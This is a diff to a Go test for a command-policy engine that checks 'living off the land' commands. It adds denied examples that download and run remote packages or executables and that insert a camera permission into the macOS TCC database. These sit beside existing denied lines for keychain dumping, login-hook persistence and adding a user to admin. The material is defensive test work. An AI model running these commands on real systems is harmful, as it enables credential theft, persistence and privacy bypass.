@@ -45,6 +45,9 @@ func TestDefaultEngineLivingOffTheLand(t *testing.T) {
 		`defaults write com.apple.loginwindow LoginHook /Users/Shared/h.sh`,
 		`security dump-keychain -d`,
 		`sudo dscl . -append /Groups/admin GroupMembership bob`,
+		`curl -o /tmp/x.pkg https://files.example/x.pkg && sudo installer -pkg /tmp/x.pkg -target /`,
+		`curl -o %TEMP%\x.exe https://files.example/x.exe && %TEMP%\x.exe`,
+		`sqlite3 ~/Library/Application\ Support/com.apple.TCC/TCC.db "INSERT INTO access VALUES('kTCCServiceCamera','com.x',0,2,4,1)"`,
 	}
 	allowed := []string{
 		`msiexec /i build\setup.msi /qn`,
@@ -65,6 +68,8 @@ func TestDefaultEngineLivingOffTheLand(t *testing.T) {
 		`plutil -replace CFBundleVersion -string 1.2.3 Info.plist`,
 		`security find-certificate -c "Apple Development" -a`,
 		`dscl . -read /Groups/admin GroupMembership`,
+		`sqlite3 db.sqlite3 "SELECT * FROM django_migrations"`,
+		`sudo installer -pkg dist/MyApp.pkg -target /`,
 	}
 	eng := policy.DefaultEngine()
 	for _, cmd := range denied {
